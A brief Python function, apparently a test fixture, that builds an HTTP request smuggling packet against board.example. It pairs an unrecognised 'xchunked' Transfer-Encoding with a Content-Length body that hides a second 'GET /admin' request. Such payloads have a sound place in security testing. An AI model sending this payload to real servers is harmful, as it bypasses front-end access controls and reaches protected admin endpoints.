# trips: the server finds a request for /admin in it
"""A coding that neither of the two takes for chunked."""


def packet():
    body = b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: board.example\r\nX: "
    head = b"POST /posts HTTP/1.1\r\nHost: board.example\r\nTransfer-Encoding: xchunked\r\n"
    return head + b"Content-Length: %d\r\n\r\n" % len(body) + body
